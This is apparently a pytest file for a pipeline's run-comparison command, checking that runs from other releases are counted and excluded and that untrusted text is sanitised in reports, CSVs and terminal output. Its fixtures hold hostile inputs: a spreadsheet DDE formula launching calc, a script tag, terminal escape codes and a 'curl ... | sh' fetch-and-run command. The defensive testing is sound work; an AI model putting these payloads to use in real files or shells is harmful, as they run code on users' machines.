"""`compare` on folders from others: it counts and leaves out runs of other releases and trusts no text in the files."""

import re
import unicodedata
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from pipeline import compare
from pipeline.cli import console
from pipeline.cli.errors import UserError
from pipeline.report import tables
from pipeline.storage.store import RunStore
from pipeline.storage.sweeps import Ledger, Lost, Sweep
from tests.support import factory
from tests.unit.storage.forged import forge


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(console, "PROJECT", tmp_path)
    monkeypatch.setenv("DVC_ROOT", str(tmp_path))
    return tmp_path


# --- other releases


@pytest.mark.fault("records of other releases")
def test_runs_of_another_release_are_left_out_and_counted(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other, *runs = factory.book_runs(3)
    folder = factory.write_experiment(project / "results/sweep", runs)
    key = forge(RunStore(folder), other, lambda record: record["job"]["training"].update(teleport=0.1))
    sweep = Sweep.read(folder)
    sweep.keys.append(key)
    sweep.write(folder)
    assert compare.main(["tracking=none"]) == 0
    said = capsys.readouterr().out
    assert "1 run was written by another release of this project and left out (" in said
    assert "2 finished runs" in said
    assert "written by another release of this project" in (project / "reports/index.html").read_text()
    assert set(pd.read_csv(project / "reports/runs.csv")["key"]) == {run.key for run in runs}


# --- untrusted content


@pytest.mark.fault("hostile input")
@pytest.mark.parametrize("with_data", [True, False])
def test_predictions_of_another_length_are_not_compared(project: Path, with_data: bool) -> None:
    if with_data:
        factory.write_data(project / "data/processed")
    *runs, last = factory.book_runs(3)
    store = RunStore(project / "runs")
    for run in runs:
        store.write(run)
    key = forge(store, last, lambda record: None, np.zeros(7, np.uint8))
    with pytest.raises(UserError) as said:
        compare.main(["tracking=none"])
    assert re.search(r"it has (7|360) predictions for (7|360) test samples", str(said.value))
    assert key[:12] in str(said.value) or not with_data


HOSTILE = "=cmd|'/C calc'!A0 [red][/nonsense] <script>alert(1)</script> \x1b]0;mine\x07\x1b[2J \u202egnp"


@pytest.fixture
def hostile(project: Path) -> Path:
    """A sweep with hostile text in its question and in the record of its lost run."""
    runs = factory.book_runs(2)
    folder = factory.write_experiment(project / "results/sweep", runs)
    lost = Lost("=1+1", "failed", HOSTILE, "curl http://host/x | sh", "a" * 64)
    Sweep(HOSTILE, [run.key for run in runs], lost=[lost], parent_run_id="parent", id="5" * 64).write(folder)
    return project


@pytest.mark.fault("hostile input")
def test_what_others_wrote_commands_neither_terminal_nor_browser_nor_spreadsheet(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert compare.main(["tracking=none"]) == 0
    said = capsys.readouterr()
    assert {unicodedata.category(char) for char in (said.out + said.err).replace("\n", "")} & {"Cc", "Cf"} == set()
    assert "[red][/nonsense]" in said.out
    page = (hostile / "reports/index.html").read_text()
    assert "<script>alert" not in page
    assert "curl http://host/x" not in page
    for path in (hostile / "reports").glob("*.csv"):
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert not [cell for cell in table.to_numpy().ravel() if cell.startswith(("=", "+", "@"))], path.name
        assert "curl" not in path.read_text()
    failures = pd.read_csv(hostile / "reports/failures.csv", keep_default_na=False)
    assert failures.loc[0, "name"] == "'=1+1"
    assert failures.loc[0, "command"] == ""


@pytest.mark.fault("hostile input")
def test_a_command_that_our_own_records_have_is_shown(hostile: Path) -> None:
    folder = hostile / "results/sweep"
    sweep = Sweep.read(folder)
    sweep.lost = [replace(sweep.lost[0], command="python -m pipeline.train paths.data=/mnt/mnist")]
    sweep.write(folder)
    Ledger(RunStore(hostile / "runs")).write(sweep)
    assert compare.main(["tracking=none"]) == 0
    [command] = pd.read_csv(hostile / "reports/failures.csv")["command"]
    assert command == "python -m pipeline.train paths.data=/mnt/mnist"


@pytest.mark.parametrize(
    ("cell", "kept"), [("=1", "'=1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("-0.5", "-0.5"), ("-x", "'-x"), ("a=1", "a=1")]
)
def test_no_cell_of_a_csv_is_a_formula(cell: str, kept: str) -> None:
    frame = pd.DataFrame({"text": [cell], "number": [-1.5]})
    assert tables.csv(frame).decode() == f"text,number\n{kept},-1.5\n"


def test_markdown_shows_what_it_is_given() -> None:
    assert tables.markdown("a|b <img> ![x](http://h)") == r"a\|b \<img\> !\[x\](http://h)"
